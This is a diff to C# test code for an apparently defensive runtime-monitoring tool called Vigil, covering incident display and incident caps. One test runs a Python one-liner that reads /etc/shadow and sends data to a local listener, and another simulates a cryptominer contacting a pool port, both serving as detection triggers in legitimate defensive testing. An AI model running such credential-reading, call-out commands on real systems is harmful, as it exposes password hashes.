@@ -1,6 +1,9 @@
 using System.Net;
 using System.Net.Sockets;
 using System.Text.Json;
+using Vigil.Correlation;
+using Vigil.Correlation.Incidents;
+using Vigil.Correlation.Signals;
 using Vigil.Events;
 using Vigil.Storage;
 using Vigil.Testing;
@@ -73,7 +76,7 @@ public sealed class StoreQueryCommandTests
     }
 
     [Fact]
-    public void Incident_show_names_the_sequence_step_each_signal_took()
+    public void The_sequence_step_each_signal_took_is_named_by_incident_show_and_the_live_table()
     {
         KernelRequirement.Check();
         using var file = new TempStore();
@@ -83,7 +86,7 @@ public sealed class StoreQueryCommandTests
         File.Copy("/usr/bin/python3", collector);
         using var drop = new TcpListener(IPAddress.Loopback, 0);
         drop.Start();
-        using var agent = new CliProcess(["run", "--store", file.Path, "--rules", FalcoRulesLocation.StableRules]);
+        using var agent = new CliProcess(["run", "--store", file.Path, "--rules", FalcoRulesLocation.StableRules, "-o", "table"]);
         agent.WaitUntilRunning();
 
         Children.Run(collector, "-c", "import socket, sys; data = open('/etc/shadow', 'rb').read(); socket.create_connection(('127.0.0.1', int(sys.argv[1]))).sendall(str(len(data)).encode())",
@@ -91,6 +94,8 @@ public sealed class StoreQueryCommandTests
         string incidentLine = Eventually(() => Query("incidents", "--store", file.Path, "-o", "json").Split('\n')
             .FirstOrDefault(l => l.Contains(marker, StringComparison.Ordinal) && l.Contains("credential read then call out", StringComparison.Ordinal)));
         string incidentId = JsonDocument.Parse(incidentLine).RootElement.GetProperty("vigil.incident.id").GetString()!;
+        agent.WaitForLine(l => l.Contains($"## INCIDENT {incidentId}", StringComparison.Ordinal)
+            && l.Contains("root cause: credential read then call out: credential read (Read sensitive file untrusted)", StringComparison.Ordinal), TimeSpan.FromSeconds(5));
         agent.Signal(15);
         Assert.Equal(0, agent.WaitForExit(TimeSpan.FromSeconds(20)));
 
@@ -100,6 +105,33 @@ public sealed class StoreQueryCommandTests
         string[] timeline = [.. shown.SkipWhile(l => !l.Contains("Timeline", StringComparison.Ordinal)).TakeWhile(l => !l.Contains("Causal chain", StringComparison.Ordinal))];
         Assert.Contains(timeline, l => l.Contains("Read sensitive file untrusted", StringComparison.Ordinal) && l.Contains("credential read then call out: credential read", StringComparison.Ordinal));
         Assert.Contains(timeline, l => l.Contains("network.connect", StringComparison.Ordinal) && l.Contains("credential read then call out: connects out", StringComparison.Ordinal));
+    }
+
+    [Fact]
+    public void Incident_show_says_what_the_incident_caps_left_out()
+    {
+        using var file = new TempStore();
+        var events = new SyntheticEvents { Now = DateTime.UtcNow };
+        var correlator = new Correlator(new CorrelatorOptions { MaxFindingsPerIncident = 4, MaxSignalsPerIncident = 8 }, []);
+        ProcessInfo miner = events.Process("/tmp/xmrig", events.Process("/bin/sh"));
+        for (int i = 0; i < 10; i++)
+        {
+            NetworkEvent connect = events.Connect(miner, "198.51.100.7", 3333, TimeSpan.FromSeconds(5));
+            correlator.Observe(SignalFactory.FromDetection(correlator.NextSignalId(), "Detect outbound connections to common miner pool ports", "CRITICAL", "pool", [], connect));
+        }
+        for (int i = 0; i < 10; i++)
+        {
+            correlator.ObserveEvent(events.File(miner, $"/proc/{i}/stat", FileIntent.Read));
+        }
+        correlator.CloseIdle(events.Now.AddHours(1)); // the closing revision carries the evidence
+        IncidentReport incident = Assert.Single(correlator.Published);
+        using (EdgeStore store = EdgeStore.Open(new StoreOptions { Path = file.Path }))
+        {
+            store.Write([incident]);
+        }
+
+        string leftOut = Assert.Single(Query("incident", "show", incident.Id, "--store", file.Path).Split('\n'), l => l.StartsWith("Left out", StringComparison.Ordinal));
+        Assert.Equal("Left out    6 findings (Detect outbound connections to common miner pool ports: 6), 6 plain events", leftOut.TrimEnd());
     }
 
     [Fact]
